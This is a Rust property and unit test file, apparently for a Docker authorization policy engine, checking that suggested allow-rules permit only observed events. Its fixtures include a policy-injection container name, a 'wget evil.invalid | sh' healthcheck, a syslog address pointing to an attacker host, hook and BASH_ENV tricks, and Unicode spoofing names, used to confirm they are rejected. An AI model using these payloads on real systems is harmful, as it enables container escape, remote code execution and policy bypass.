//! Suggested rules permit exactly what was seen, and are never wider than a wildcard that was asked for.

use crate::{oracle::bundle, random::pick};
use proptest::prelude::*;
use std::collections::{BTreeMap, BTreeSet};
use wharden_model::{
    Action, Decision, DecisionEvent, Effect, FactValue, Facts, Labels, Outcome, Posture, Principal, Resource,
    Timestamp, api::Wildcard,
};
use wharden_policy::{
    Compiled, Query, schema_text,
    suggest::{Change, SuggestError, Terms, is_open, suggest},
    validate,
};

const HOSTS: [&str; 2] = ["h-0000000000000001", "h-0000000000000002"];
const GROUP: &str = "env=prod";

fn event(action: Action, host: &str, thing: (&str, &str, &str), facts: &[(&str, FactValue)]) -> DecisionEvent {
    let (name, image, owner) = thing;
    let mut all = Facts::zero(action);
    for (fact, value) in facts {
        if all.get(fact).is_some() {
            all.set(fact, value.clone());
        }
    }
    DecisionEvent {
        host_id: host.parse().expect("valid"),
        boot_id: "0000000000000001".parse().expect("valid"),
        seq: 1,
        at: Timestamp(1_795_000_000_000),
        principal: Principal::User { name: "ann".to_owned() },
        action,
        resource: Resource {
            kind: action.resource(),
            id: format!("id-{name}"),
            name: name.to_owned(),
            image: image.to_owned(),
            owner: owner.to_owned(),
            labels: BTreeMap::new(),
        },
        outcome: Outcome::Allowed,
        posture: Posture::Observe,
        decision: Decision { effect: Effect::Allow, rules: vec![], monitor: vec![], errors: vec![], revision: 1 },
        facts: Some(all.sparse()),
        partial_facts: None,
        request: String::new(),
        error: String::new(),
        decided_in_us: 0,
    }
}

/// Few values, so that events often differ in one thing only and rules are merged.
fn events(most: usize) -> impl Strategy<Value = Vec<DecisionEvent>> {
    let action = proptest::sample::select(vec![
        Action::ContainerCreate,
        Action::ContainerStart,
        Action::ContainerLogs,
        Action::ContainerInspect,
        Action::ContainerExec,
        Action::ContainerDelete,
        Action::ImagePull,
        Action::VolumeCreate,
        Action::SystemInfo,
        Action::SystemPing,
    ]);
    let thing = (
        pick(&["web", "db", "a\"); permit(principal, action, resource); //"]),
        pick(&[
            "docker.io/library/nginx:1",
            "docker.io/library/nginx:2",
            "r.example:5000/app@sha256:00",
            "sha256:11",
            "app",
            "app:1",
        ]),
        pick(&["ann", "ben", ""]),
    );
    let facts = (
        prop::bool::weighted(0.2),
        proptest::collection::btree_set(pick(&["/data", "/srv"]), 0..2),
        proptest::collection::btree_set(proptest::sample::select(vec![80_i64, 443]), 0..2),
        pick(&["", "1000", "app"]),
        pick(&["sh", "id -u"]),
    );
    let one = (action, proptest::sample::select(&HOSTS[..]), thing, facts).prop_map(|(action, host, thing, facts)| {
        let (privileged, paths, ports, user, command) = facts;
        let facts = [
            ("privileged", FactValue::from(privileged)),
            ("host_paths", paths.into()),
            ("host_ports", ports.into()),
            ("user", user.into()),
            ("command", command.into()),
            ("force", privileged.into()),
            ("path", "/some/path/with/an/id".into()),
        ];
        event(action, host, (&thing.0, &thing.1, &thing.2), &facts)
    });
    proptest::collection::vec(one, 1..most)
}

fn terms() -> impl Strategy<Value = Terms> {
    (proptest::collection::btree_set(proptest::sample::select(&Wildcard::ALL[..]), 0..3), any::<bool>())
        .prop_map(|(wildcards, group)| Terms { wildcards, group: group.then(|| GROUP.to_owned()) })
}

struct Rules {
    here: Compiled,
    elsewhere: Compiled,
}

impl Rules {
    fn new(text: &str) -> Self {
        let compiled = |labels: &str| {
            let labels: Labels = labels.parse().expect("valid");
            Compiled::new(&bundle(&[("suggested", text)], &[], &labels), 1).expect("compiles")
        };
        Self { here: compiled(GROUP), elsewhere: compiled("") }
    }

    fn allows(&self, event: &DecisionEvent, elsewhere: bool) -> bool {
        let facts = event.facts.clone().expect("facts").whole(event.action);
        let side = if elsewhere { &self.elsewhere } else { &self.here };
        let decision = side.decide(&Query {
            principal: &event.principal,
            action: event.action,
            resource: &event.resource,
            host: &event.host_id,
            facts: &facts,
        });
        assert!(decision.errors.is_empty(), "{decision:?}");
        decision.effect == Effect::Allow
    }
}

/// The rule of one event alone says all that distinguishes it.
fn distinguished(event: &DecisionEvent, terms: &Terms) -> String {
    let text = suggest([event], terms).expect("fits").text;
    text.lines().filter(|line| !line.starts_with("@reason")).collect()
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(60))]

    #[test]
    fn what_was_seen_is_permitted_and_nothing_else_is(events in events(14), others in events(10), terms in terms()) {
        let suggested = suggest(&events, &terms).expect("fits");
        prop_assert!(validate(&suggested.text).is_ok(), "{:?}\n{}", validate(&suggested.text), suggested.text);
        let rules = Rules::new(&suggested.text);
        let seen: BTreeSet<_> = events.iter().map(|event| distinguished(event, &terms)).collect();
        for event in &events {
            prop_assert!(rules.allows(event, false), "{:?}\n{}", event, suggested.text);
            if is_open(event.action) {
                continue;
            }
            for near in suggested.neighbours(event) {
                prop_assert!(!rules.allows(&near.event, near.elsewhere), "{}\n{:?}\n{}", near.what, near.event, suggested.text);
            }
        }
        for event in others.iter().filter(|event| !is_open(event.action)) {
            let known = seen.contains(&distinguished(event, &terms));
            prop_assert_eq!(rules.allows(event, false), known, "{:?}\n{}", event, suggested.text);
        }
    }
}

fn nginx(tag: &str, name: &str, host: &str) -> DecisionEvent {
    let image = format!("docker.io/library/nginx:{tag}");
    event(
        Action::ContainerCreate,
        host,
        (name, &image, "ann"),
        &[("network_mode", "default".into()), ("user", "app".into())],
    )
}

#[test]
fn what_differs_in_one_thing_becomes_one_rule_and_what_differs_in_two_does_not() {
    let count = |events: &[DecisionEvent]| suggest(events, &Terms::default()).expect("fits").rules;
    assert_eq!(count(&[nginx("1", "web", HOSTS[0]), nginx("2", "web", HOSTS[0])]), 1);
    assert_eq!(count(&[nginx("1", "web", HOSTS[0]), nginx("2", "db", HOSTS[0])]), 2);
    let all = ["1", "2"].map(|tag| ["web", "db"].map(|name| HOSTS.map(|host| nginx(tag, name, host))));
    assert_eq!(count(&all.into_iter().flatten().flatten().collect::<Vec<_>>()), 1, "every combination was seen");
}

#[test]
fn every_wildcard_opens_its_own_thing_and_no_other() {
    let seen = nginx("1", "web", HOSTS[0]);
    let changed = |change: &dyn Fn(&mut DecisionEvent)| {
        let mut event = seen.clone();
        change(&mut event);
        event
    };
    let others = [
        (Wildcard::ImageTag, changed(&|e| e.resource.image = "docker.io/library/nginx:9".into())),
        (Wildcard::ImageRepository, changed(&|e| e.resource.image = "docker.io/library/redis:1".into())),
        (Wildcard::ContainerName, changed(&|e| e.resource.name = "db".into())),
        (Wildcard::Command, changed(&|e| e.facts.as_mut().expect("facts").set("command", "sh"))),
        (Wildcard::Host, changed(&|e| e.host_id = HOSTS[1].parse().expect("valid"))),
        (Wildcard::Listed, event(Action::ContainerInspect, HOSTS[0], ("db", "redis", "ben"), &[])),
    ];
    for asked in Wildcard::ALL {
        let terms = Terms { wildcards: BTreeSet::from([asked]), group: None };
        let list = event(Action::ContainerList, HOSTS[0], ("", "", ""), &[]);
        let rules = Rules::new(&suggest([&seen, &list], &terms).expect("fits").text);
        assert!(rules.allows(&seen, false) && rules.allows(&list, false));
        for (opened, event) in &others {
            let expected = *opened == asked || (asked, *opened) == (Wildcard::ImageRepository, Wildcard::ImageTag);
            assert_eq!(rules.allows(event, false), expected, "{asked:?} {opened:?}");
        }
        let elsewhere = changed(&|e| e.resource.image = "quay.io/library/nginx:1".into());
        assert!(!rules.allows(&elsewhere, false), "{asked:?}");
    }
}

#[test]
fn what_lists_show_may_be_seen_and_no_more_of_it() {
    let thing = |action| event(action, HOSTS[0], ("db", "redis", "ben"), &[]);
    let listed = Terms { wildcards: BTreeSet::from([Wildcard::Listed]), group: None };
    for (list, shown) in [
        (Action::VolumeList, &[Action::VolumeInspect][..]),
        (Action::NetworkList, &[Action::NetworkInspect]),
        (Action::SystemDf, &[Action::ContainerInspect, Action::ImageInspect, Action::VolumeInspect]),
    ] {
        let asked = event(list, HOSTS[0], ("", "", ""), &[]);
        let suggested = suggest([&asked], &listed).expect("fits");
        let rules = Rules::new(&suggested.text);
        for action in [
            Action::ContainerInspect,
            Action::ImageInspect,
            Action::VolumeInspect,
            Action::NetworkInspect,
            Action::ContainerLogs,
        ] {
            let mut seen = thing(action);
            assert_eq!(rules.allows(&seen, false), shown.contains(&action), "{list} {action}\n{}", suggested.text);
            seen.principal = Principal::User { name: "eve".to_owned() };
            assert!(!rules.allows(&seen, false));
            seen = thing(action);
            seen.host_id = HOSTS[1].parse().expect("valid");
            assert!(!rules.allows(&seen, false));
        }
        let verbose = event(Action::NetworkInspect, HOSTS[0], ("db", "", ""), &[("verbose", true.into())]);
        assert!(!rules.allows(&verbose, false), "a list shows no network so");
        assert!(suggested.text.contains("@reason(\"listed, last on"), "{}", suggested.text);
    }
    // A network that was looked at so is that network, and so looked at.
    let verbose = |name| event(Action::NetworkInspect, HOSTS[0], (name, "", ""), &[("verbose", true.into())]);
    let rules = Rules::new(&suggest([&verbose("a")], &listed).expect("fits").text);
    assert!(rules.allows(&verbose("a"), false) && !rules.allows(&verbose("b"), false));
}

#[test]
fn more_than_a_document_holds_is_said_and_not_cut() {
    let many: Vec<_> = (0..60).map(|n| nginx(&format!("{n}"), &format!("web-{n}"), HOSTS[0])).collect();
    let error = suggest(&many, &Terms::default()).expect_err("it cannot fit");
    let SuggestError::TooMuch { rules, bytes, others } = &error;
    let fitting = [Wildcard::ImageTag, Wildcard::ImageRepository, Wildcard::ContainerName];
    assert_eq!((*rules, others), (60, &fitting.map(|wildcard| (Change::With(wildcard), 1)).to_vec()));
    assert!(*bytes > wharden_model::limits::POLICY_TEXT_MAX, "{bytes}");
    assert!(error.to_string().contains("with the wildcard container-name it is 1; or take one host"), "{error}");
    let open = Terms { wildcards: BTreeSet::from([Wildcard::ContainerName]), group: None };
    assert_eq!(suggest(&many, &open).expect("fits").rules, 1);
}

/// A rule for `sleep 1` permits no other content and no more power under the same command.
#[test]
fn a_rule_for_a_plain_command_permits_no_hostile_healthcheck() {
    let create = |facts: &[(&str, FactValue)]| {
        let plain = [("network_mode", "default".into()), ("user", "app".into()), ("command", "sleep 1".into())];
        event(Action::ContainerCreate, HOSTS[0], ("web", "app:1", "ann"), &[&plain[..], facts].concat())
    };
    let rules = Rules::new(&suggest([&create(&[])], &Terms::default()).expect("fits").text);
    assert!(rules.allows(&create(&[]), false));
    assert!(rules.allows(&create(&[("memory", 1_i64.into()), ("hostname", "h".into())]), false));
    let set = |text: &str| FactValue::from(BTreeSet::from([text.to_owned()]));
    for (fact, value) in [
        ("healthcheck", "CMD-SHELL wget evil.invalid | sh".into()),
        ("annotations", set("run.oci.hooks=/x")),
        ("log_options", set("syslog-address=tcp://evil.invalid")),
        ("endpoint_options", set("com.docker.network.endpoint.sysctls=net.ipv4.conf.IFNAME.forwarding=1")),
        ("mount_targets", set("/usr/bin")),
        ("env_names", set("BASH_ENV")),
        ("dns", set("192.0.2.1")),
        ("ulimits", set("rtprio=99:99")),
        ("image_owner", "eve".into()),
    ] {
        assert!(!rules.allows(&create(&[(fact, value)]), false), "{fact}");
    }
    // Nor less of what binds it, when it was bound.
    let bound =
        create(&[("cap_drop", set("ALL")), ("readonly_rootfs", true.into()), ("network_disabled", true.into())]);
    let rules = Rules::new(&suggest([&bound], &Terms::default()).expect("fits").text);
    assert!(rules.allows(&bound, false) && !rules.allows(&create(&[("cap_drop", set("ALL"))]), false));
}

#[test]
fn a_rule_for_a_service_names_its_image() {
    let service = |image: &str| {
        let facts = [("image", image.into()), ("command", "sleep 1".into())];
        event(Action::ServiceCreate, HOSTS[0], ("web", "", "ann"), &facts)
    };
    let rules = Rules::new(&suggest([&service("docker.io/library/nginx:1")], &Terms::default()).expect("fits").text);
    assert!(rules.allows(&service("docker.io/library/nginx:1"), false));
    assert!(!rules.allows(&service("docker.io/library/other:1"), false));
}

/// Validation takes it for a deception, escaped or not; the rules for all else are given.
#[test]
fn what_mixes_scripts_is_left_out_and_the_rest_is_suggested() {
    let of = |name: &str, image: &str, command: &str| {
        event(Action::ContainerCreate, HOSTS[0], (name, image, "ann"), &[("command", command.into())])
    };
    let odd = [
        of("web", "app:1", "echo \u{43f}\u{440}\u{438}\u{432}\u{435}\u{442} hello"),
        of("web", "r.example/ngin\u{445}:1", "sh"),
        of("a\u{61c}", "app:1", "sh"),
        of("a\u{202e}b", "app:1", "sh"),
    ];
    let good = [of("web", "app:1", "sh"), of("db", "app:1", "\u{43f}\u{440}\u{438}\u{432}\u{435}\u{442}")];
    for terms in [vec![], vec![Wildcard::ImageTag, Wildcard::Host]] {
        let terms = Terms { wildcards: terms.into_iter().collect(), group: None };
        let suggested = suggest(odd.iter().chain(&good), &terms).expect("fits");
        assert_eq!(
            validate(&suggested.text).map(|parsed| parsed.rules.len()),
            Ok(suggested.rules),
            "{}",
            suggested.text
        );
        let rules = Rules::new(&suggested.text);
        assert!(good.iter().all(|event| suggested.covers(event) && rules.allows(event, false)));
        assert!(odd.iter().all(|event| !suggested.covers(event) && !rules.allows(event, false)));
        assert_eq!(suggest(&odd, &terms).expect("fits").text, "");
    }
}

#[test]
fn a_suggestion_is_a_text_for_people() {
    let mut start = event(Action::ContainerStart, HOSTS[0], ("web", "docker.io/library/nginx:1", "ann"), &[]);
    start.at = Timestamp(1_795_500_000_000);
    let logs = event(Action::ContainerLogs, HOSTS[0], ("web", "docker.io/library/nginx:1", "ann"), &[]);
    let inspect = event(Action::ContainerInspect, HOSTS[0], ("web", "docker.io/library/nginx:1", "ann"), &[]);
    let create = event(
        Action::ContainerCreate,
        HOSTS[0],
        ("web", "docker.io/library/nginx:1", "ann"),
        &[
            ("network_mode", "default".into()),
            ("host_paths", BTreeSet::from(["/srv/www".to_owned()]).into()),
            ("host_ports", BTreeSet::from([8080_i64]).into()),
            ("user", "app".into()),
        ],
    );
    insta::assert_snapshot!(
        suggest(&[start, logs, inspect, create.clone(), create], &Terms::default()).expect("fits").text
    );
    assert!(schema_text().contains("host_paths"));
}
